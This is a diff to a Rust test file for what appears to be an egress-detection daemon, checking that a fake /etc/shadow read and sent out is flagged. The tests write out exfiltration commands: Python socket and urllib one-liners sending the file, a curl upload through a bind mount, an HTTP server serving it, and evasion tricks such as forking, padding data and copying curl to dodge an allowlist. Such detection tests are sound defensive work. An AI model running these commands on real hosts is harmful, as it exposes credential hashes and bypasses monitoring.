@@ -1,9 +1,11 @@
 //! A sensitive file is read and leaves (issue 4, items 1 and 2): by every way that people take, found with the right
 //! file, program, destination and confidence.
 
+use counterfoil_tests::daemon::Daemon;
 use counterfoil_tests::sink::Sink;
 use counterfoil_tests::sshd::Sshd;
-use counterfoil_tests::{Alarm, Observed, Run, Scratch, check, need, need_sshd, peers};
+use counterfoil_tests::{Alarm, Observed, Run, Scratch, check, need, need_sshd, peers, wait};
+use std::time::Duration;
 
 /// As /etc/shadow looks on a small host.
 const SHADOW: &str = "root:$6$Vq0bnmQx1c7aK2yZ$0p9Jt1mNf3sXWq8dEoLhU5rGzKcYv7b2TnAi4Hs6QwMxRjPkZ1eDfVgBhNyCuIo:19700:0:99999:7:::\n\
@@ -114,7 +116,6 @@ fn bash_dev_tcp() {
 
 #[test]
 fn python() {
-    let python = peers::PYTHON;
     need!("/usr/bin/python3");
     for code in [
         "import urllib.request as u; u.urlopen(\"http://127.0.0.1:$P/\", open(\"secret/shadow\",\"rb\").read())",
@@ -123,7 +124,7 @@ fn python() {
         // It forks between reading and sending.
         "import socket,os; d=open(\"secret/shadow\",\"rb\").read(); p=os.fork(); s=p or socket.create_connection((\"127.0.0.1\",$P)); p or s.sendall(b\"x\"+d); p and os.wait()",
     ] {
-        left(&leaking(&format!("{python} -c \"{}\"", code.replace('"', "\\\""))), "python3", "proven");
+        left(&leaking(&in_python(code)), "python3", "proven");
     }
 }
 
@@ -193,6 +194,98 @@ fn over_ssh() {
     if peers::find("rsync").is_some() {
         left(&to("rsync -a secret/shadow far:$here/got"), "ssh", "proven");
     }
+}
+
+/// A program in Python, as the words of a shell.
+fn in_python(code: &str) -> String {
+    format!("{} -c \"{}\"", peers::PYTHON, code.replace('"', "\\\""))
+}
+
+#[test]
+fn behind_much_else_on_the_same_connection() {
+    need!("/usr/bin/python3");
+    let run = leaking(&in_python(
+        "import socket; s=socket.create_connection((\"127.0.0.1\",$P)); s.sendall(bytes(range(256))*512); s.sendall(open(\"secret/shadow\",\"rb\").read())",
+    ));
+    left(&run, "python3", "proven");
+}
+
+/// Served to who asks for it: only the content tells.
+#[test]
+fn served_over_http() {
+    need!("/usr/bin/python3", "curl");
+    let port = peers::free_port();
+    let listening = counterfoil_tests::observed::listening(port);
+    let commands = format!(
+        "{} -m http.server --bind 127.0.0.1 {port} >server.log 2>&1 & server=$!\n{listening}\n\
+         curl -sS http://127.0.0.1:{port}/FILE >got\nkill $server",
+        peers::PYTHON
+    );
+    let serve = |file: &str| with_secret(Scratch::new(), &commands.replace("FILE", file)).go();
+    left(&serve("secret/shadow"), "python3", "proven");
+}
+
+/// As root there is more than one name that is no link.
+#[test]
+fn bound_elsewhere() {
+    need!("unshare", "mount", "curl");
+    if !peers::root() {
+        counterfoil_tests::skip!("a bind mount needs root");
+    }
+    let commands = "unshare -m sh -euc 'touch other; mount --bind secret/shadow other; curl -sS -T other http://127.0.0.1:$P/ >/dev/null'";
+    left(&leaking(commands), "curl", "proven");
+}
+
+/// A program that calls itself as one does that may read it.
+#[test]
+fn a_trusted_name_elsewhere() {
+    need!("curl");
+    let sink = Sink::start();
+    let scratch = Scratch::new();
+    let here = scratch.path().canonicalize().expect("scratch").display().to_string();
+    scratch.write("secret/shadow", SHADOW);
+    let config = format!(
+        "[egress]\nknown_benign_processes = [\"/usr/bin/curl\"]\n[[egress.sensitive]]\npath = \"{here}/secret/*\"\nlabel = \"hashes\"\n"
+    );
+    let config = scratch.write("egress.toml", config).display().to_string();
+    let session = |commands: &str| {
+        let mut session = Observed::script(commands).option("--config").option(&config);
+        session = session.env("P", sink.port().to_string()).env("HERE", &here);
+        session.go().well()
+    };
+    // It reads it for its work, and sends something else.
+    let work = "cd $HERE; PROGRAM -sS -K secret/shadow http://127.0.0.1:$P/ >/dev/null 2>&1 || true";
+    let quiet = session(&work.replace("PROGRAM", "/usr/bin/curl"));
+    check!(quiet, leaks(&quiet).is_empty(), "{:#?}", leaks(&quiet));
+    let loud = session(&format!("cp /usr/bin/curl $HERE/curl\n{}", work.replace("PROGRAM", "$HERE/curl")));
+    check!(loud, leaks(&loud).iter().any(|a| exe(a) == "curl"), "nothing about another curl");
+}
+
+/// The host's daemon doesn't look at everything that runs; who opens a sensitive file is looked at from then on.
+#[test]
+fn by_a_program_that_is_not_watched() {
+    need!("/usr/bin/python3");
+    let scratch = Scratch::new();
+    let here = scratch.path().canonicalize().expect("scratch").display().to_string();
+    let secret = scratch.write("secret/shadow", SHADOW).display().to_string();
+    let daemon = Daemon::start(&format!(
+        "[egress]\n[[egress.sensitive]]\npath = \"{here}/secret/*\"\nlabel = \"hashes\"\n"
+    ));
+    let sink = Sink::start();
+    let code = format!(
+        "import socket; s=socket.create_connection(('127.0.0.1',{})); s.sendall(b'hello'); s.sendall(b'x'+open('{secret}','rb').read())",
+        sink.port()
+    );
+    daemon.observing(&[peers::PYTHON, "-c", &code]).go().well();
+    let found = wait::until(Duration::from_secs(20), daemon.shown("an alarm"), || {
+        daemon
+            .report()
+            .alarms()
+            .into_iter()
+            .find(|a| a.rule() == "sensitive-egress" && a.0["confidence"] == "proven")
+    });
+    assert_eq!(found.0["file"]["path"], secret.as_str());
+    assert!(exe(&found).starts_with("python3"), "{}", found.0);
 }
 
 /// Who reads it for its work, who asks for something else, who only serves.
